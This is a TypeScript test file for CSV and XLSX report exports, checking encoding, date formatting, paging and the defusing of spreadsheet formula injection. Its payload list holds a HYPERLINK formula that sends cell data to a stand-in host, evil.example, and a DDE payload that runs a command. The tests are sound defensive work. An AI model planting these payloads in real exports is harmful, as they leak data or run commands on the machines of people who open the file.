import { parse } from 'csv-parse/sync'
import ExcelJS from 'exceljs'
import { describe, expect, it } from 'vitest'
import type { Column } from './columns.ts'
import { csvCell, csvSafe, downloadName } from './columns.ts'
import { pagedRows } from './paged-rows.server.ts'
import { csvResponse } from './write-csv.server.ts'
import { xlsxResponse } from './write-xlsx.server.ts'

interface Row {
  id: number
  name: string
  day: string
  at: Date
  amount: number | null
}

const columns: Column<Row>[] = [
  { key: 'name', header: 'Name', type: 'text', value: (r) => r.name },
  { key: 'day', header: 'Next Visit', type: 'date', value: (r) => r.day },
  { key: 'at', header: 'Created', type: 'datetime', value: (r) => r.at },
  { key: 'amount', header: 'Expected Volume', type: 'money', value: (r) => r.amount },
]

const rows: Row[] = [
  { id: 1, name: 'रमेश किराना', day: '2026-11-01', at: new Date('2026-10-31T18:30:00Z'), amount: 250000 },
  { id: 2, name: 'Shop, "Main" Road', day: '2026-12-31', at: new Date('2026-11-22T06:00:00Z'), amount: null },
]

async function* each<T>(items: T[]) {
  for (const item of items) yield item
}

describe('report downloads', () => {
  it('CSV: UTF-8 with a byte-order mark, a header row, the cells a person reads, plain amounts', async () => {
    const res = csvResponse('x.csv', columns, each(rows))
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="x.csv"')
    const bytes = new Uint8Array(await res.arrayBuffer())
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const parsed = parse(Buffer.from(bytes).toString('utf8'), { bom: true }) as string[][]
    expect(parsed).toEqual([
      ['Name', 'Next Visit', 'Created', 'Expected Volume'],
      ['रमेश किराना', '01/11/2026', '01/11/2026 00:00', '250000'],
      ['Shop, "Main" Road', '31/12/2026', '22/11/2026 11:30', ''],
    ])
  })

  it('XLSX: typed cells (dates as dates in India time, amounts as numbers), frozen and filtered header', async () => {
    const res = xlsxResponse('x.xlsx', 'Report', columns, each(rows))
    const book = new ExcelJS.Workbook()
    await book.xlsx.load(await res.arrayBuffer())
    const sheet = book.getWorksheet('Report')
    expect(sheet).toBeDefined()
    expect(sheet?.getRow(1).values).toEqual([undefined, 'Name', 'Next Visit', 'Created', 'Expected Volume'])
    const first = sheet?.getRow(2)
    expect(first?.getCell(1).value).toBe('रमेश किराना')
    expect(first?.getCell(2).value).toEqual(new Date(Date.UTC(2026, 10, 1)))
    expect(first?.getCell(3).value).toEqual(new Date(Date.UTC(2026, 10, 1, 0, 0)))
    expect(first?.getCell(4).value).toBe(250000)
    expect(sheet?.getRow(3).getCell(4).value).toBeNull()
    expect(sheet?.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 })
    expect(sheet?.autoFilter).toBeTruthy()
  })

  it('reads pages by key and stops when the signal aborts', async () => {
    const calls: (number | null)[] = []
    const controller = new AbortController()
    const source = pagedRows(
      async (after: number | null, limit) => {
        calls.push(after)
        const start = (after ?? 0) + 1
        return Array.from({ length: limit }, (_, i) => start + i)
      },
      (n) => n,
      { pageSize: 10, signal: controller.signal },
    )
    const seen: number[] = []
    for await (const n of source) {
      seen.push(n)
      if (n === 25) controller.abort()
    }
    expect(calls).toEqual([null, 10, 20])
    expect(seen.at(-1)).toBe(30)
  })

  // OWASP's CSV injection payloads: the issue's, and one of each character a spreadsheet starts a formula with.
  const payloads = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    '+1+2',
    '@SUM(1,2)',
    "=cmd|' /C calc'!A0",
    '-2+3',
    '\t=1+1',
    '\r=1+1',
    '=Sharma Kirana',
  ]

  it('CSV: a text cell that a spreadsheet would run as a formula gets a leading apostrophe', () => {
    for (const payload of payloads) expect(csvSafe(payload)).toBe(`'${payload}`)
    for (const plain of ['Sharma Kirana', 'a=b', 'x-1', "'quoted", '', '9812345670', 'रमेश']) {
      expect(csvSafe(plain)).toBe(plain)
    }
    // Every kind of column that carries text goes through it; numbers stay numbers (a negative one too).
    expect(csvCell('text', '@SUM(1,2)')).toBe("'@SUM(1,2)")
    expect(csvCell('date', '=1+1')).toBe("'=1+1")
    expect(csvCell('number', -5)).toBe('-5')
    expect(csvCell('money', 250000)).toBe('250000')
    expect(csvCell('number', '=1+1' as unknown as number)).toBe("'=1+1")
  })

  it('CSV: the written file carries the defused cells, quoted where needed', async () => {
    const named = payloads.map((name, id) => ({ ...rows[0]!, id, name }))
    const res = csvResponse('x.csv', columns, each(named))
    const parsed = parse(Buffer.from(await res.arrayBuffer()).toString('utf8'), { bom: true }) as string[][]
    expect(parsed.slice(1).map((r) => r[0])).toEqual(payloads.map((p) => `'${p}`))
  })

  it('XLSX: the same payloads are plain string cells, never formulas', async () => {
    const named = payloads.map((name, id) => ({ ...rows[0]!, id, name }))
    const res = xlsxResponse('x.xlsx', 'Report', columns, each(named))
    const bytes = Buffer.from(await res.arrayBuffer())
    const book = new ExcelJS.Workbook()
    await book.xlsx.load(bytes as unknown as ArrayBuffer)
    const sheet = book.getWorksheet('Report')!
    payloads.forEach((payload, i) => {
      const cell = sheet.getRow(i + 2).getCell(1)
      expect(cell.type).toBe(ExcelJS.ValueType.String)
      expect(cell.formula).toBeUndefined()
      // XML reads a carriage return back as a line feed; the text is otherwise exactly what was sent.
      expect(cell.value).toBe(payload.replace(/\r/g, '\n'))
    })
  })

  it('names a file after the report and its range', () => {
    expect(downloadName('Follow Up Report', '2026-11-01', '2026-11-30', 'csv')).toBe(
      'Follow-Up-Report_2026-11-01_2026-11-30.csv',
    )
  })
})
